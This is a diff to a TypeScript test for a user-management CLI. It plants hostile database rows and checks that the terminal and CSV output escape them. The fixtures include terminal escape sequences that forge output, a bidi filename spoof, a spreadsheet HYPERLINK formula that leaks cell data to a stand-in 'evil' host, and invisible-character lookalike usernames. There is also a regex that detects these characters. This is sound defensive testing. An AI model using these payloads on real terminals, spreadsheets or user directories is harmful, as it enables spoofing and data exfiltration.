@@ -25,10 +25,14 @@ const FORGE = '\x1b[1A\x1b[2KDeleted 0 users.'
 const C1_CSI = '\u009b31mred'
 const BIDI = 'gpj.\u202eexe'
 const FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
+/** Looks like alice: a zero-width space; a name of BOM, Hangul filler and a tag character. */
+const LOOKALIKE = 'alice\u200b'
+const INVISIBLE_NAME = 'Al\ufeffice\u3164\u{e0041}'
 
-/** What must never come out of the CLI raw: ESC, C1 CSI, and the bidi controls. */
-// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for
-const FORBIDDEN = /[\x1b\u009b\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/u
+/** What must never come out of the CLI raw: ESC, C1 CSI, the bidi controls, invisible characters. */
+const FORBIDDEN =
+  // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what this test looks for
+  /[\x1b\u009b\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\p{Default_Ignorable_Code_Point}]/u
 
 const COMMANDS: string[][] = [
   ['users', 'list'],
@@ -67,6 +71,8 @@ describe('hostile rows planted by SQL never reach the terminal raw', () => {
       }
       await plant('mallory', `${OSC8}${TITLE}`, `m${CLEAR}@example.com`, `claude${FORGE}`)
       await plant('oscar', FORMULA, 'o@example.com', `${C1_CSI}${BIDI}`)
+      await plant('alice', 'Alice', 'alice@example.com', 'cursor')
+      await plant(LOOKALIKE, INVISIBLE_NAME, 'a2@example.com', 'cur\u200dsor')
     } finally {
       await sql.end()
     }
@@ -89,6 +95,12 @@ describe('hostile rows planted by SQL never reach the terminal raw', () => {
     const env = {DATABASE_URL: url, OPENMEMORY_DATABASE_URL: undefined}
     const show = await runBin(['users', 'show', 'mallory'], {env})
     expect(show.stdout).toContain('\\x1b]8;;http://evil.example/')
+    // alice and alice + U+200B never look the same; the escaped id is typed back to find it.
+    const list = await runBin(['users', 'list'], {env})
+    expect(list.stdout).toContain('alice\\u200b')
+    expect(list.stdout).toContain('Al\\ufeffice\\u3164\\udb40\\udc41')
+    const lookalike = await runBin(['users', 'show', 'alice\\u200b', '--json'], {env})
+    expect(JSON.parse(lookalike.stdout).userId).toBe(LOOKALIKE)
     const csv = await runBin(['users', 'list', '--format', 'csv'], {env})
     expect(csv.stdout).toContain(`'${FORMULA.replaceAll('"', '""')}`)
     expect(csv.stdout).not.toMatch(/(^|,)=HYPERLINK/m)
